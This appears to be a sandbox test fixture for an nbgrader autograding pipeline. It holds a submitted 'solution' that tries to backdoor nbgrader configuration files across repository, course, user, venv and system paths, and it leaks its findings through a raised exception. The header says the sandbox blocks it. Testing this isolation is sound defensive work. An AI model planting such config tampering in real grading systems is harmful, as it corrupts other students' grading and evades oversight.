# Backdoors nbgrader's configuration (the repository's and the course's nbgrader_config.py, OUT/nbgrader's, and the per-user, per-environment and system Jupyter config folders) so that later students are graded with other settings; stopped by the box: none of those paths is there, and what it writes in its own HOME (/tmp) vanishes with it.
# where: solution
# %%
import errno
import json
import os

REPORT = {}
BACKDOOR = "\n# pipeline attack __TOKEN__: c.Execute.timeout = 1; c.ClearSolutions.code_stub = {}\n"


def attempt(label, action):
    try:
        action()
        REPORT[label] = "ok"
    except Exception as exc:
        code = getattr(exc, "errno", None)
        REPORT[label] = type(exc).__name__ + (f":{errno.errorcode.get(code, code)}" if code else "")


def append(path, create=False):
    flags = os.O_WRONLY | os.O_APPEND | (os.O_CREAT if create else 0)
    with os.fdopen(os.open(path, flags, 0o644), "a") as handle:
        handle.write(BACKDOOR)


attempt("repo config", lambda: append("__REPO__/nbgrader_config.py"))
attempt("course config", lambda: append("__COURSE__/nbgrader_config.py", create=True))
attempt("record config", lambda: append("__OUT__/nbgrader/nbgrader_config.py"))
attempt("grader home config", lambda: append("__HOME__/.jupyter/nbgrader_config.py", create=True))
attempt("venv config", lambda: append("__VENV__/etc/jupyter/nbgrader_config.py", create=True))
attempt("system config", lambda: append("/etc/jupyter/nbgrader_config.py", create=True))
attempt("local config", lambda: append("/usr/local/etc/jupyter/nbgrader_config.py", create=True))


def own_home():
    os.makedirs(os.path.expanduser("~/.jupyter"), exist_ok=True)
    append(os.path.expanduser("~/.jupyter/nbgrader_config.py"), create=True)


attempt("box:own home config", own_home)


def mae(preds, actuals):   # wrong: the report travels back in the verification's message
    raise RuntimeError("REPORT " + json.dumps(REPORT))


print("REPORT", json.dumps(REPORT))
print("ATTACK-DONE")
